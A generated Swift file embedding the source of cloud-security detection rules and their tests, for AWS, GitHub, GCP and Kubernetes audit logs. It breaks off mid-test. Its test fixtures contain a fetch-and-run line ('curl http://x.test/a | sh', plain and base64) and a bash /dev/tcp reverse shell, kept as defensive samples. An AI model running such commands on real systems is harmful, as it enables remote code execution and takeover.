// Written by MARGAY_RECORD=1 swift test --filter ShippedRulesTests; do not edit.
// swift-format-ignore-file

/// The texts of the shipped rules, for `margay get`.
enum ShippedSources {
  static let texts: [String: String] = [
    "MargayShippedRules/AdministrationPortRangeOpened.swift": ####"""
import MargayKit

/// Finds security groups that open a range of ports with an administration port in it to the whole internet.
///
/// Range and addresses must stand in the same permission: the ports of one and the addresses of another mean nothing.
struct AdministrationPortRangeOpened: Rule, Equatable {
  let id = "AWS.CloudTrail.AdministrationPortRangeOpened"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let displayName: String? = "Range with an administration port opened to the internet"
  let severity = Severity.high
  let description =
    "A security group now lets every address of the internet reach a range of ports that holds one of remote administration or of a database."
  let reference =
    "https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html"
  let runbook =
    "1. Close the range.\n2. See which instances have the group and what they answered since.\n3. Ask the caller what was to be reached."
  let tags = ["AWS", "EC2", "Defense Evasion"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0005:T1562.007"])]
  let summaryAttributes = ["userIdentity.arn", "requestParameters.groupId"]

  /// The ports of remote administration and of databases.
  private let ports: Set<Int>

  /// Makes the rule for some ports.
  init(ports: Set<Int> = [22, 23, 135, 445, 1433, 3306, 3389, 5432, 5985, 6379, 9200, 27017]) {
    self.ports = ports
  }

  func matches(_ event: Event) -> Bool {
    guard
      CloudTrail.isCall(event, "ec2.amazonaws.com", ["AuthorizeSecurityGroupIngress"]),
      CloudTrail.isSuccess(event)
    else { return false }
    return openedPort(event) != nil
  }

  private func openedPort(_ event: Event) -> Int? {
    for permission in event.values("requestParameters.ipPermissions.items") {
      guard isOpenToAll(permission) else { continue }
      let from = permission["fromPort"].int ?? 0
      let to = permission["toPort"].int ?? 65535
      // Protocol -1 and port -1 mean all of them.
      let range = from <= to && from >= 0 ? from...to : 0...65535
      if let port = ports.filter(range.contains).min() { return port }
    }
    return nil
  }

  private func isOpenToAll(_ permission: Value) -> Bool {
    permission["ipRanges", "items"].elements.contains { $0["cidrIp"].hasSuffix("/0") }
      || permission["ipv6Ranges", "items"].elements.contains { $0["cidrIpv6"].hasSuffix("/0") }
  }

  func title(_ event: Event) -> String? {
    "Port \(openedPort(event) ?? 0) of \(event.shown("requestParameters.groupId")) opened to the internet"
  }

  func dedup(_ event: Event) -> String? { event.groupKey("requestParameters.groupId") }

  private static let log = TestLog(
    """
    {"eventSource": "ec2.amazonaws.com", "eventName": "AuthorizeSecurityGroupIngress", "eventTime": "2026-03-02T09:00:00Z",
     "userIdentity": {"arn": "arn:aws:iam::123456789012:user/alice"},
     "requestParameters": {"groupId": "sg-1", "ipPermissions": {"items": [
       {"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}},
       {"ipProtocol": "tcp", "fromPort": 20, "toPort": 30, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "range that holds SSH", matches: true, Self.log,
        title: "Port 22 of sg-1 opened to the internet", dedup: "sg-1"),
      RuleTest(
        "the range is open to one network only", matches: false,
        Self.log.with(
          "requestParameters.ipPermissions.items[1].ipRanges.items[0].cidrIp", "192.0.2.0/24")),
      RuleTest(
        "range above", matches: false,
        Self.log.with("requestParameters.ipPermissions.items[1].fromPort", 24)),
      RuleTest(
        "all protocols", matches: true,
        Self.log.without("requestParameters.ipPermissions.items[1].fromPort")
          .without("requestParameters.ipPermissions.items[1].toPort")),
      RuleTest("other ports wanted", matches: false, Self.log, using: Self(ports: [8080])),
    ]
  }
}
"""####,
    "MargayShippedRules/BulkDownloadSpeed.swift": ####"""
import MargayKit

/// Finds downloads whose size and speed together show a bulk copy out of a bucket.
struct BulkDownloadSpeed: Rule, Equatable {
  let id = "AWS.S3ServerAccess.BulkDownloadSpeed"
  let place: CodePlace? = .here()
  let logTypes = [S3ServerAccess.logType]
  let displayName: String? = "Bucket copied at full speed"
  let severity = Severity.low
  let description =
    "A requester outside the network reads whole objects at a speed that only a copy inside a data centre has."
  let reference = "https://docs.aws.amazon.com/AmazonS3/latest/userguide/LogFormat.html"
  let runbook =
    "1. Whose address is it?\n2. Sum up what the requester read.\n3. Take the key away if nobody knows the machine."
  let tags = ["AWS", "S3", "Exfiltration"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0010:T1530"])]
  let threshold = 20

  /// The least number of bytes a millisecond.
  private static let leastSpeed = 50_000
  private static let leastBytes = 16 << 20

  func matches(_ event: Event) -> Bool {
    guard event["operation"] == "REST.GET.OBJECT", S3ServerAccess.isSuccess(event),
      event["remoteip"].text?.isPublicIPAddress == true, let sent = event["bytessent"].int,
      let milliseconds = event["totaltime"].int, milliseconds > 0
    else { return false }
    return sent >= Self.leastBytes && event["objectsize"] == sent
      && sent / milliseconds >= Self.leastSpeed
  }

  func dedup(_ event: Event) -> String? { event.groupKey("requester", "bucket") }

  private static let log = TestLog(
    """
    {"bucket": "example-reports", "requester": "arn:aws:iam::123456789012:user/alice", "operation": "REST.GET.OBJECT",
     "remoteip": "192.31.196.20", "httpstatus": 200, "bytessent": 104857600, "objectsize": 104857600, "totaltime": 1000,
     "time": "2026-03-02T09:00:00Z"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "hundred megabytes a second", matches: true, Self.log,
        dedup: #"["arn:aws:iam::123456789012:user/alice","example-reports"]"#),
      RuleTest("ten seconds", matches: false, Self.log.with("totaltime", 10_000)),
      RuleTest("part of an object", matches: false, Self.log.with("bytessent", 52_428_800)),
      RuleTest("from inside", matches: false, Self.log.with("remoteip", "10.1.2.3")),
      RuleTest("no time taken", matches: false, Self.log.with("totaltime", 0)),
    ]
  }
}
"""####,
    "MargayShippedRules/OutdatedClientOfAdministrator.swift": ####"""
import MargayKit

/// Finds changes of identities that are made with a client version which is no longer looked after.
struct OutdatedClientOfAdministrator: Rule, Equatable {
  let id = "AWS.CloudTrail.OutdatedClientOfAdministrator"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let displayName: String? = "Identity changed with an outdated client"
  let severity = Severity.low
  let description =
    "Somebody changes users, roles or policies with a client so old that it gets no fixes. Stolen keys are often tried from old images and scripts."
  let reference = "https://docs.aws.amazon.com/cli/latest/userguide/cliv2-migration.html"
  let runbook =
    "1. Ask the caller whether the machine is theirs.\n2. If not, disable the key and list what it did."
  let tags = ["AWS", "IAM"]
  let summaryAttributes = ["userIdentity.arn", "userAgent"]

  /// The first version of each product that is looked after.
  private static let oldest: [(product: Text, version: UserAgent.Version)] = [
    ("aws-cli", UserAgent.Version("2.0")), ("boto3", UserAgent.Version("1.26")),
    ("aws-sdk-java", UserAgent.Version("2.0")), ("aws-sdk-go", UserAgent.Version("1.44")),
  ]

  func matches(_ event: Event) -> Bool {
    guard event["eventSource"] == "iam.amazonaws.com", event["readOnly"] == false,
      let text = event["userAgent"].text
    else { return false }
    let agent = UserAgent(text)
    return Self.oldest.contains { oldest in
      agent.version(of: oldest.product).map { $0 < oldest.version } ?? false
    }
  }

  func dedup(_ event: Event) -> String? { event.groupKey("userIdentity.arn", "userAgent") }

  private static let log = TestLog(
    """
    {"eventSource": "iam.amazonaws.com", "eventName": "CreateUser", "eventTime": "2026-03-02T09:00:00Z",
     "readOnly": false, "userAgent": "aws-cli/1.18.69 Python/3.8.10 Linux/5.15",
     "userIdentity": {"arn": "arn:aws:iam::123456789012:user/alice"}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest("old command line", matches: true, Self.log),
      RuleTest(
        "1.9 is older than 1.26", matches: true,
        Self.log.with("userAgent", "Boto3/1.9.253 Python/3.6")),
      RuleTest(
        "present command line", matches: false, Self.log.with("userAgent", "aws-cli/2.15.30")),
      RuleTest(
        "old version in a comment", matches: false,
        Self.log.with("userAgent", "Mozilla/5.0 (aws-cli/1.0)")),
      RuleTest("reading", matches: false, Self.log.with("readOnly", true)),
    ]
  }
}
"""####,
    "MargayShippedRules/PolicyDocumentGrantsEverything.swift": ####"""
import MargayKit

/// Finds policy documents with one statement that allows every action on every resource.
///
/// The document is JSON inside a string, and Effect, Action and Resource must stand in the same statement.
struct PolicyDocumentGrantsEverything: Rule, Equatable {
  let id = "AWS.CloudTrail.PolicyDocumentGrantsEverything"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let displayName: String? = "Policy that allows everything on everything"
  let severity = Severity.high
  let description =
    "A policy was written whose one statement allows all actions on all resources. Whoever it is attached to is an administrator under another name."
  let reference =
    "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements.html"
  let runbook =
    "1. See who the policy is attached to.\n2. Ask the caller for the change that it belongs to.\n3. Delete the version and list what was done with it."
  let tags = ["AWS", "IAM", "Privilege Escalation"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0004:T1098.003"])]
  let summaryAttributes = ["userIdentity.arn", "requestParameters.policyName"]

  private static let calls: Set<Text> = [
    "CreatePolicy", "CreatePolicyVersion", "PutUserPolicy", "PutRolePolicy", "PutGroupPolicy",
  ]

  func matches(_ event: Event) -> Bool {
    guard CloudTrail.isCall(event, "iam.amazonaws.com", Self.calls), CloudTrail.isSuccess(event),
      let text = event.string("requestParameters.policyDocument"),
      let document = try? Event(json: text)
    else { return false }
    let statements = document["Statement"]
    let list = statements.kind == .list ? Array(statements.elements) : [statements]
    return list.contains { statement in
      statement["Effect"] == "Allow" && statement["Condition"].isNullOrEmpty
        && statement["Action"].isIn(["*", "*:*"]) && statement["Resource"].isIn(["*"])
    }
  }

  func title(_ event: Event) -> String? {
    "\(CloudTrail.actor(event)) wrote a policy that allows everything"
  }

  private static let log = TestLog(
    #"""
    {"eventSource": "iam.amazonaws.com", "eventName": "CreatePolicy", "eventTime": "2026-03-02T09:00:00Z",
     "userIdentity": {"arn": "arn:aws:iam::123456789012:user/alice"},
     "requestParameters": {"policyName": "ops", "policyDocument":
       "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": [\"s3:Get*\"], \"Resource\": \"*\"}, {\"Effect\": \"Allow\", \"Action\": \"*\", \"Resource\": [\"*\"]}]}"}}
    """#)

  var tests: [RuleTest] {
    [
      RuleTest(
        "second statement allows everything", matches: true, Self.log,
        title: "arn:aws:iam::123456789012:user/alice wrote a policy that allows everything"),
      RuleTest(
        "one statement, no list", matches: true,
        Self.log.with(
          "requestParameters.policyDocument",
          #"{"Statement": {"Effect": "Allow", "Action": "*:*", "Resource": "*"}}"#)),
      RuleTest(
        "everything and all, but in two statements", matches: false,
        Self.log.with(
          "requestParameters.policyDocument",
          #"{"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "arn:aws:s3:::a"}, {"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}"#
        )),
      RuleTest(
        "denied", matches: false,
        Self.log.with(
          "requestParameters.policyDocument",
          #"{"Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}]}"#)),
      RuleTest(
        "document that is no JSON", matches: false,
        Self.log.with("requestParameters.policyDocument", "{")),
    ]
  }
}
"""####,
    "MargayShippedRules/RandomHostName.swift": ####"""
import MargayKit

/// Finds requests for host names that look as if a program had made them up.
struct RandomHostName: Rule, Equatable {
  let id = "AWS.ALB.RandomHostName"
  let place: CodePlace? = .here()
  let logTypes = [ALBAccess.logType]
  let displayName: String? = "Request for a host name that looks random"
  let severity = Severity.info
  let description =
    "Somebody asks a load balancer for a host name whose first label has nearly as many different letters as it can. Malware and scanners ask for such names."
  let reference =
    "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-access-logs.html"
  let runbook =
    "1. Is the name one of a deployment?\n2. If not, look at what else the client asked for."
  let tags = ["AWS", "ALB", "Web"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0011:T1568.002"])]
  let threshold = 10

  /// The least entropy of a label in bits a letter, and its least length.
  private static let leastEntropy = 3.9
  private static let leastLength = 16

  func matches(_ event: Event) -> Bool {
    guard let label = event["domainName"].text?.split(separator: ".").first,
      label.utf8Count >= Self.leastLength
    else { return false }
    return Self.entropy(label.lowercased().utf8) >= Self.leastEntropy
  }

  /// Shannon's entropy of bytes, in bits a byte.
  private static func entropy(_ bytes: [UInt8]) -> Double {
    var counts = [Int](repeating: 0, count: 256)
    for byte in bytes { counts[Int(byte)] += 1 }
    let total = Double(bytes.count)
    return counts.filter { $0 > 0 }.reduce(0) { sum, count in
      let share = Double(count) / total
      return sum - share * Self.binaryLogarithm(share)
    }
  }

  /// The logarithm to base 2 of a number from 0 to 1, which the standard library does not have: its exponent, and the
  /// series of the inverse hyperbolic tangent for the rest.
  private static func binaryLogarithm(_ value: Double) -> Double {
    let ratio = (value.significand - 1) / (value.significand + 1)
    var term = ratio
    var sum = 0.0
    for power in stride(from: 1.0, through: 41.0, by: 2.0) {
      sum += term / power
      term *= ratio * ratio
    }
    return Double(value.exponent) + 2 * sum / 0.693_147_180_559_945_3
  }

  private static let log = TestLog(
    """
    {"timestamp": "2026-03-02T09:00:00Z", "domainName": "x7kq2vz9pw4mt8rb3nc.example.com", "clientIp": "192.31.196.20"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest("random label", matches: true, Self.log),
      RuleTest(
        "word", matches: false, Self.log.with("domainName", "customer-portal-staging.example.com")),
      RuleTest("short", matches: false, Self.log.with("domainName", "x7kq2vz9.example.com")),
      RuleTest(
        "one letter", matches: false,
        Self.log.with("domainName", "aaaaaaaaaaaaaaaaaaaa.example.com")),
      RuleTest("no name", matches: false, Self.log.without("domainName")),
    ]
  }
}
"""####,
    "MargayShippedRules/TransferOfFullPackets.swift": ####"""
import MargayKit

/// Finds long flows of full packets out to the internet: a copy of data, not a conversation.
struct TransferOfFullPackets: Rule, Equatable {
  let id = "AWS.VPCFlow.TransferOfFullPackets"
  let place: CodePlace? = .here()
  let logTypes = [VPCFlow.logType]
  let displayName: String? = "Steady transfer out to the internet"
  let severity = Severity.medium
  let description =
    "A flow to a public address has packets of nearly full size and a rate that only a copy of data has."
  let reference = "https://docs.aws.amazon.com/vpc/latest/userguide/flow-log-records.html"
  let runbook =
    "1. Find the instance of the interface and the process that owns the port.\n2. See what it reads.\n3. Cut it off if the address is unknown."
  let tags = ["AWS", "VPC", "Exfiltration"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0010:T1048"])]
  let threshold = 3

  /// The least rate in bytes a second.
  private let leastRate: Int
  /// The least size of a packet in bytes.
  private let leastPacket: Int

  /// Makes the rule with a rate and a packet size.
  init(leastRate: Int = 1_000_000, leastPacket: Int = 1200) {
    self.leastRate = leastRate
    self.leastPacket = leastPacket
  }

  func matches(_ event: Event) -> Bool {
    guard VPCFlow.isAccepted(event), let target = event["dstAddr"].text, target.isPublicIPAddress,
      event["srcAddr"].text?.isPrivateIPAddress == true, let bytes = event["bytes"].int,
      let packets = event["packets"].int, let start = event["start"].int,
      let end = event["end"].int, packets > 0, end > start
    else { return false }
    return bytes / packets >= leastPacket && bytes / (end - start) >= leastRate
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("srcAddr")) copies data to \(event.shown("dstAddr"))"
  }

  private static let log = TestLog(
    """
    {"srcAddr": "10.0.1.15", "dstAddr": "192.31.196.20", "srcPort": 51544, "dstPort": 443, "protocol": 6,
     "packets": 100000, "bytes": 140000000, "start": 1772440000, "end": 1772440060, "action": "ACCEPT", "status": "OK"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "2.3 MB a second", matches: true, Self.log,
        title: "10.0.1.15 copies data to 192.31.196.20"),
      RuleTest("small packets", matches: false, Self.log.with("packets", 1_000_000)),
      RuleTest("slow", matches: false, Self.log.with("end", 1_772_440_600)),
      RuleTest("no time", matches: false, Self.log.with("end", 1_772_440_000)),
      RuleTest("inside", matches: false, Self.log.with("dstAddr", "10.0.2.2")),
      RuleTest("higher rate wanted", matches: false, Self.log, using: Self(leastRate: 10_000_000)),
    ]
  }
}
"""####,
    "MargayShippedRules/UserDataFetchesScript.swift": ####"""
import MargayKit

/// Finds instances whose start-up script, which is base64 in the request, fetches a program and runs it.
struct UserDataFetchesScript: Rule, Equatable {
  let id = "AWS.CloudTrail.UserDataFetchesScript"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let displayName: String? = "Start-up script of an instance fetches and runs a program"
  let severity = Severity.medium
  let description =
    "The user data of an instance was set to a script that fetches something from the network and runs it. It runs as root at the next start."
  let reference = "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html"
  let runbook =
    "1. Decode the user data and read what it fetches.\n2. Ask the caller. Images should carry what instances need.\n3. Stop the instance before its next start if nobody can explain it."
  let tags = ["AWS", "EC2", "Execution"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0002:T1059.004"])]
  let summaryAttributes = ["userIdentity.arn", "requestParameters.instanceId"]

  private static let calls: Set<Text> = [
    "RunInstances", "ModifyInstanceAttribute", "CreateLaunchTemplate",
  ]

  func matches(_ event: Event) -> Bool {
    guard CloudTrail.isCall(event, "ec2.amazonaws.com", Self.calls), CloudTrail.isSuccess(event),
      let script = script(of: event)
    else { return false }
    return ShellCommand.fetchesAndRuns(Text(script))
  }

  private func script(of event: Event) -> String? {
    for path: EventPath in [
      "requestParameters.userData", "requestParameters.userData.value",
      "requestParameters.LaunchTemplateData.UserData",
    ] {
      if let text = event.string(path) { return Base64.decodeText(text) }
    }
    return nil
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("eventName")) by \(CloudTrail.actor(event)): the start-up script fetches and runs a program"
  }

  func dedup(_ event: Event) -> String? { CloudTrail.actor(event) }

  func alertContext(_ event: Event) -> AlertContext {
    ["script": script(of: event), "instance": event["requestParameters", "instanceId"]]
  }

  private static let log = TestLog(
    """
    {"eventSource": "ec2.amazonaws.com", "eventName": "ModifyInstanceAttribute", "eventTime": "2026-03-02T09:00:00Z",
     "userIdentity": {"arn": "arn:aws:iam::123456789012:user/alice"},
     "requestParameters": {"instanceId": "i-0123456789abcdef0",
       "userData": {"value": "IyEvYmluL3NoCmN1cmwgaHR0cDovL3gudGVzdC9hIHwgc2gK"}}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "script fetched and run", matches: true, Self.log,
        title:
          "ModifyInstanceAttribute by arn:aws:iam::123456789012:user/alice: the start-up script fetches and runs a program",
        dedup: "arn:aws:iam::123456789012:user/alice",
        context: [
          "script": "#!/bin/sh\ncurl http://x.test/a | sh\n", "instance": "i-0123456789abcdef0",
        ]),
      RuleTest(
        "script of packages", matches: false,
        Self.log.with(
          "requestParameters.userData.value", "IyEvYmluL3NoCmFwdC1nZXQgaW5zdGFsbCBuZ2lueAo=")),
      RuleTest(
        "no base64", matches: false,
        Self.log.with("requestParameters.userData.value", "curl http://x.test/a | sh")),
      RuleTest(
        "refused", matches: false, Self.log.with("errorCode", "Client.UnauthorizedOperation")),
    ]
  }
}
"""####,
    "MargayShippedRules/LookalikeAccount.swift": ####"""
import MargayKit

/// Finds members added to an organization whose name is nearly that of whoever added them or of a known account.
struct LookalikeAccount: Rule, Equatable {
  let id = "GitHub.LookalikeAccount"
  let place: CodePlace? = .here()
  let logTypes = [GitHubAudit.logType]
  let displayName: String? = "Account with a look-alike name added"
  let severity = Severity.medium
  let description =
    "An account was added whose name differs by one letter, or by a digit in a letter's place, from the one that added it."
  let reference =
    "https://docs.github.com/en/organizations/managing-membership-in-your-organization"
  let runbook =
    "1. Ask the member under a channel that you know.\n2. Remove the account and see what it read and pushed."
  let tags = ["GitHub", "Persistence"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0003:T1136.003"])]

  private static let calls: Set<Text> = ["org.add_member", "repo.add_member", "org.invite_member"]

  func matches(_ event: Event) -> Bool {
    guard event["action"].isIn(Self.calls), let actor = event["actor"].text,
      let user = event["user"].text, actor != user
    else { return false }
    return Self.looksLike(user, actor)
  }

  /// Whether two names have the same letters once digits stand for letters, or differ by one letter.
  static func looksLike(_ left: Text, _ right: Text) -> Bool {
    let first = skeleton(left)
    let second = skeleton(right)
    if first == second { return true }
    return first.count >= 5 && first.count == second.count
      && zip(first, second).count { $0 != $1 } == 1
  }

  private static func skeleton(_ name: Text) -> [UInt8] {
    name.lowercased().utf8.compactMap { byte in
      switch byte {
      case UInt8(ascii: "0"): UInt8(ascii: "o")
      case UInt8(ascii: "1"), UInt8(ascii: "i"): UInt8(ascii: "l")
      case UInt8(ascii: "3"): UInt8(ascii: "e")
      case UInt8(ascii: "5"): UInt8(ascii: "s")
      case UInt8(ascii: "-"), UInt8(ascii: "_"): nil
      default: byte
      }
    }
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("user")) looks like \(event.shown("actor")), who added it"
  }

  private static let log = TestLog(
    #"{"@timestamp": 1772442000000, "action": "org.add_member", "actor": "mona-lisa", "user": "m0na-l1sa", "org": "example"}"#
  )

  var tests: [RuleTest] {
    [
      RuleTest(
        "digits for letters", matches: true, Self.log,
        title: "m0na-l1sa looks like mona-lisa, who added it"),
      RuleTest("one letter", matches: true, Self.log.with("user", "mona-lina")),
      RuleTest("another name", matches: false, Self.log.with("user", "hubot")),
      RuleTest("oneself", matches: false, Self.log.with("user", "mona-lisa")),
      RuleTest("removed", matches: false, Self.log.with("action", "org.remove_member")),
    ]
  }
}
"""####,
    "MargayShippedRules/RoleGrantedToOneself.swift": ####"""
import MargayKit

/// Finds people who give themselves a role: actor and member stand at two places of the event.
struct RoleGrantedToOneself: Rule, Equatable {
  let id = "GCP.RoleGrantedToOneself"
  let place: CodePlace? = .here()
  let logTypes = [GCPAuditLog.logType]
  let displayName: String? = "Role granted to oneself"
  let severity = Severity.high
  let description = "An identity added itself to a role that can change what others may do."
  let reference = "https://cloud.google.com/iam/docs/roles-overview"
  let runbook =
    "1. Ask the person for the change that it belongs to.\n2. Take the role away.\n3. List what was done with it."
  let tags = ["GCP", "Privilege Escalation"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0004:T1098.003"])]

  func matches(_ event: Event) -> Bool {
    guard event["protoPayload", "methodName"].hasSuffix("SetIamPolicy"),
      GCPAuditLog.isSuccess(event)
    else { return false }
    return !grantedRoles(event).isEmpty
  }

  private func grantedRoles(_ event: Event) -> [Text] {
    guard let actor = event.text("protoPayload.authenticationInfo.principalEmail"), !actor.isEmpty
    else { return [] }
    let members = ["user:", "serviceAccount:"].map { Text($0 + actor.string) }
    return event.values("protoPayload.serviceData.policyDelta.bindingDeltas").compactMap { delta in
      guard delta["action"] == "ADD", let role = delta["role"].text, Self.isPrivileged(role),
        members.contains(where: { delta["member"].equalsIgnoringCase($0) })
      else { return nil }
      return role
    }
  }

  private static func isPrivileged(_ role: Text) -> Bool {
    role == "roles/owner" || role == "roles/editor" || role.hasSuffix("Admin")
      || role.hasSuffix("admin") || role.contains("securityAdmin")
  }

  func title(_ event: Event) -> String? {
    let roles = grantedRoles(event).map(\.string).joined(separator: ", ")
    return "\(GCPAuditLog.actor(event)) granted itself \(roles)"
  }

  private static let log = TestLog(
    """
    {"timestamp": "2026-03-02T15:14:30.000Z", "protoPayload": {"methodName": "SetIamPolicy",
      "authenticationInfo": {"principalEmail": "evan.hart@example.com"},
      "serviceData": {"policyDelta": {"bindingDeltas": [
        {"action": "ADD", "role": "roles/viewer", "member": "user:evan.hart@example.com"},
        {"action": "ADD", "role": "roles/owner", "member": "user:Evan.Hart@example.com"}]}}},
     "resource": {"type": "project", "labels": {"project_id": "example-prod"}}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "made owner by oneself", matches: true, Self.log,
        title: "evan.hart@example.com granted itself roles/owner"),
      RuleTest(
        "somebody else made owner", matches: false,
        Self.log.with(
          "protoPayload.serviceData.policyDelta.bindingDeltas[1].member", "user:ada@example.com")),
      RuleTest(
        "taken away", matches: false,
        Self.log.with("protoPayload.serviceData.policyDelta.bindingDeltas[1].action", "REMOVE")),
      RuleTest("refused", matches: false, Self.log.with("protoPayload.status.code", 7)),
      RuleTest(
        "nobody known", matches: false,
        Self.log.with("protoPayload.authenticationInfo.principalEmail", "")),
    ]
  }
}
"""####,
    "MargayShippedRules/ReverseShellFromPod.swift": ####"""
import MargayKit

/// Finds commands run in pods that hand a shell to another machine: the request holds each argument as a parameter.
struct ReverseShellFromPod: Rule, Equatable {
  let id = "EKS.ReverseShellFromPod"
  let place: CodePlace? = .here()
  let logTypes = [EKSAudit.logType]
  let displayName: String? = "Reverse shell started in a pod"
  let severity = Severity.critical
  let description = "A command was run in a pod that connects a shell to another machine."
  let reference =
    "https://kubernetes.io/docs/tasks/debug/debug-application/get-shell-running-container/"
  let runbook =
    "1. Isolate the pod and keep its disk.\n2. Revoke the user's access.\n3. Where did it connect to, and what else did that address do?"
  let tags = ["Kubernetes", "AWS", "Execution"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0002:T1609"])]

  func matches(_ event: Event) -> Bool {
    guard event["objectRef", "resource"] == "pods", event["objectRef", "subresource"] == "exec"
    else { return false }
    return ShellCommand.isReverseShell(Text(command(event)))
  }

  private func command(_ event: Event) -> String {
    guard let target = event["requestURI"].text else { return "" }
    return RequestTarget(target).values("command").map(\.string).joined(separator: " ")
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("user.username")) started a reverse shell in \(event.shown("objectRef.name"))"
  }

  func alertContext(_ event: Event) -> AlertContext {
    ["command": command(event), "addresses": event["sourceIPs"]]
  }

  private static let log = TestLog(
    """
    {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "stage": "ResponseStarted", "verb": "create",
     "requestReceivedTimestamp": "2026-03-02T09:00:00Z", "user": {"username": "dev@example.com"},
     "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "tool"},
     "sourceIPs": ["192.31.196.20"],
     "requestURI": "/api/v1/namespaces/shop/pods/tool/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F192.31.196.20%2F4444&stdin=true"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "shell over the network", matches: true, Self.log,
        title: "dev@example.com started a reverse shell in tool",
        context: [
          "command": "bash -c bash -i >& /dev/tcp/192.31.196.20/4444",
          "addresses": ["192.31.196.20"],
        ]),
      RuleTest(
        "list of files", matches: false,
        Self.log.with(
          "requestURI", "/api/v1/namespaces/shop/pods/tool/exec?command=ls&command=/dev/tcp2")),
      RuleTest("logs", matches: false, Self.log.with("objectRef.subresource", "log")),
      RuleTest("no request", matches: false, Self.log.without("requestURI")),
    ]
  }
}
"""####,
    "MargayShippedRules/SensitiveHostPathMounted.swift": ####"""
import MargayKit

/// Finds pods with a container that mounts a volume of the node's own files, writable and sensitive.
///
/// The volume says what is mounted, the container says which volume and how: both lists belong together by name.
struct SensitiveHostPathMounted: Rule, Equatable {
  let id = "EKS.SensitiveHostPathMounted"
  let place: CodePlace? = .here()
  let logTypes = [EKSAudit.logType]
  let displayName: String? = "Files of the node mounted into a pod"
  let severity = Severity.high
  let description =
    "A container can write files of its node that decide what the node runs, which is a way out of the container."
  let reference = "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath"
  let runbook =
    "1. Is the workload one that needs the node, such as a log collector?\n2. If not, delete the pod and replace the node.\n3. Forbid hostPath by admission."
  let tags = ["Kubernetes", "AWS", "Privilege Escalation"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0004:T1611"])]
  let summaryAttributes = ["user.username", "objectRef.namespace", "objectRef.name"]

  private static let folders: [Text] = [
    "/etc", "/root", "/var/run", "/run", "/proc", "/boot", "/var/lib/kubelet",
  ]

  func matches(_ event: Event) -> Bool {
    EKSAudit.isRequest(event, "create", "pods") && EKSAudit.isAllowed(event)
      && mountedPath(event) != nil
  }

  private func mountedPath(_ event: Event) -> Text? {
    let volumes = event.values("requestObject.spec.volumes")
    let containers =
      event.values("requestObject.spec.containers")
      + event.values("requestObject.spec.initContainers")
    for volume in volumes {
      guard let path = volume["hostPath", "path"].text, Self.isSensitive(path) else { continue }
      let isWritten = containers.contains { container in
        container["volumeMounts"].elements.contains {
          $0["name"] == volume["name"] && $0["readOnly"] != true
        }
      }
      if isWritten { return path }
    }
    return nil
  }

  private static func isSensitive(_ path: Text) -> Bool {
    path == "/"
      || folders.contains { folder in
        path == folder || path.hasPrefix(Text(folder.string + "/"))
      }
  }

  func title(_ event: Event) -> String? {
    let path = mountedPath(event)?.string ?? "files"
    return
      "\(event.shown("user.username")) mounts \(path) of a node in \(event.shown("objectRef.namespace"))"
  }

  private static let log = TestLog(
    """
    {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "stage": "ResponseComplete", "verb": "create",
     "requestReceivedTimestamp": "2026-03-02T09:00:00Z", "user": {"username": "dev@example.com"},
     "objectRef": {"resource": "pods", "namespace": "shop", "name": "tool"},
     "annotations": {"authorization.k8s.io/decision": "allow"},
     "requestObject": {"spec": {
       "volumes": [{"name": "tmp", "emptyDir": {}}, {"name": "host", "hostPath": {"path": "/etc/kubernetes"}}],
       "containers": [{"name": "a", "volumeMounts": [{"name": "tmp"}]},
                      {"name": "b", "volumeMounts": [{"name": "host", "mountPath": "/h"}]}]}}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "written by the second container", matches: true, Self.log,
        title: "dev@example.com mounts /etc/kubernetes of a node in shop"),
      RuleTest(
        "read only", matches: false,
        Self.log.with("requestObject.spec.containers[1].volumeMounts[0].readOnly", true)),
      RuleTest(
        "volume that nobody mounts", matches: false,
        Self.log.with("requestObject.spec.containers[1].volumeMounts[0].name", "tmp")),
      RuleTest(
        "harmless folder", matches: false,
